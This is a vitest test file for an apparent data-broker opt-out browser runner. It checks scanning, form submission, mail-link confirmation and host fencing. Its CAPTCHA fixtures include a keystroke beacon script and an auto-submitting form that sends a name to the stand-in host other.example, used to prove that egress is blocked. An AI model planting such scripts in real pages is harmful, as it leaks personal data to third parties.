import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Hosts } from "../../src/catalog/playbook.ts";
import { runStage } from "../../src/playbook/run-stage.ts";
import { never, startRig, type Rig } from "../browser/support/browsers.ts";
import { RecordingDesk } from "./support/recording-desk.ts";
import { startSites, type SiteServer } from "./support/site-server.ts";
import { HOSTS, jobOf, toolsFor, type Ran, type Wish } from "./support/stage-bench.ts";

let sites: SiteServer;
let rig: Rig;
beforeAll(async () => {
  sites = await startSites(HOSTS);
  const map = new Map(HOSTS.map((host) => [host, new URL(`https://127.0.0.1:${sites.port}`)]));
  rig = await startRig({ map, certificate: sites.certificate });
});
afterAll(async () => {
  await rig[Symbol.asyncDispose]();
  await sites[Symbol.asyncDispose]();
});

/** The runner on the real thing: fenced browser, egress proxy, wire log. */
async function run(wish: Wish): Promise<Omit<Ran, "session">> {
  const job = jobOf(wish);
  await using session = await rig.browsers.open({ id: "t", hosts: Hosts.parse(job.playbook.playbook.hosts), phase: wish.stage ?? "optOut" }, never);
  const desk = new RecordingDesk(wish.mail);
  return { outcome: await runStage(job, toolsFor(session, desk, { patienceMs: 5_000 })), desk };
}

const FORM = `<form method=post action=/sent><input name=email><button>Remove</button></form>`;
const STEPS = [
  { goto: "https://acme.example/optout" },
  { fill: { "[name=email]": "{{contact.email}}" } },
  { submit: { click: "button", confirmed: "text=We received your request", within: "3s" } },
];

it("scans, and keeps a masked picture of the row", async () => {
  sites.serve({ "acme.example/list": `<div class=row><h3>Jane Roe</h3><a href=/p/1>See</a></div>` });

  const { outcome, desk } = await run({ stage: "scan", steps: [{ goto: "https://acme.example/list" }, { extract: { each: ".row", fields: { name: "h3", url: "a" } } }] });

  expect(outcome).toMatchObject({ kind: "looked", look: { kind: "seen", sightings: [{ identity: "acme.example/p/1" }] } });
  expect(desk.kept[0]?.png?.length).toBeGreaterThan(100);
});

it("submits once and matches the confirmation", async () => {
  sites.serve({ "acme.example/optout": FORM, "POST acme.example/sent": "We received your request" });

  const { outcome } = await run({ steps: STEPS });

  expect(outcome).toEqual({ kind: "acknowledged" });
  expect(await rig.wire("wire:optOut.steps[2]")).toBe("sent");
});

it("makes one POST and is in doubt when the connection drops under it", async () => {
  sites.serve({ "acme.example/optout": FORM, "POST acme.example/sent": "drop" });

  const { outcome } = await run({ steps: STEPS });

  expect(outcome).toMatchObject({ kind: "doubted", reason: "connection-lost" });
  expect(sites.seen.filter(({ method }) => method === "POST")).toHaveLength(1);
});

it("proves that a click which sends nothing sent nothing", async () => {
  sites.serve({ "acme.example/optout": FORM.replace("<form", `<form onsubmit="return false"`) });

  const { outcome } = await run({ steps: STEPS });

  expect(outcome).toMatchObject({ kind: "not-sent", proof: "no-byte" });
});

it("opens a mail link through hosts of the broker's only", async () => {
  sites.serve({ "go.acme.example/c": { status: 302, headers: { location: "https://other.example/d" } }, "other.example/d": "You are removed" });
  const steps = [{ email: { from: "acme.example", link: "go.acme.example/c" } }, { expect: { at: "text=You are removed", within: "2s" } }];

  const { outcome } = await run({ stage: "confirm", steps, mail: { kind: "link", url: "https://go.acme.example/c" } });

  expect(outcome).toMatchObject({ kind: "doubted" });
  expect(sites.seen.map(({ host }) => host)).toEqual(["go.acme.example"]);
});

it("calls a page broken that leads off the playbook's hosts", async () => {
  sites.serve({ "acme.example/optout": { status: 302, headers: { location: "https://other.example/" } } });

  const { outcome } = await run({ steps: STEPS });

  expect(outcome).toMatchObject({ kind: "broken", code: "host-refused" });
});

describe("a CAPTCHA's own script", () => {
  const hosts = { site: ["acme.example"], challenge: ["other.example"] };
  const page = `<script src="https://other.example/widget.js"></script><form id=f method=post action=/sent><input name=email><input type=hidden name=g-captcha-response><button>Remove</button></form><div id=captcha></div>
    <script>document.querySelector("[name=email]").oninput = () => { new Image().src = "https://other.example/spy?" + Math.random(); };</script>`;
  const steps = [
    { goto: "https://acme.example/optout" },
    { fill: { "[name=email]": "{{contact.email}}" } },
    { expect: "form" },
    { human: { captcha: "#captcha" } },
    { submit: { click: "button", confirmed: "text=We received your request", within: "3s" } },
  ];
  const widget = { headers: { "content-type": "text/javascript" }, html: "setTimeout(() => document.querySelector('[name=g-captcha-response]').value = 'token', 50)" };

  it("is loaded with the page, and cut off while the form is filled", async () => {
    sites.serve({ "acme.example/optout": page, "other.example/widget.js": widget, "other.example/spy": "seen", "POST acme.example/sent": "We received your request" });

    const { outcome } = await run({ steps, playbook: { hosts } });

    expect(outcome).toEqual({ kind: "acknowledged" });
    expect(sites.seen.filter(({ host }) => host === "other.example").map(({ path }) => path)).toEqual(["/widget.js"]);
  });

  it("is refused where no step of the page waits for it", async () => {
    sites.serve({ "acme.example/optout": page, "other.example/widget.js": widget, "POST acme.example/sent": "We received your request" });

    await run({ steps: steps.filter((step) => !("human" in step)), playbook: { hosts } });

    expect(sites.seen.filter(({ host }) => host === "other.example")).toEqual([]);
  });

  it("is never sent a form, though its host is open when the page submits itself there", async () => {
    const hostile = `<form id=f method=post action="https://other.example/take"><input name=name value="Jane Roe"></form><script>document.querySelector("#f").submit()</script><div id=captcha></div>`;
    sites.serve({ "acme.example/optout": hostile, "other.example/take": "taken" });

    await run({ steps: [steps[0], { settle: { until: "text=never", within: "1s" } }], playbook: { hosts } });

    expect(sites.seen.map(({ host }) => host)).toEqual(["acme.example"]);
  });
});
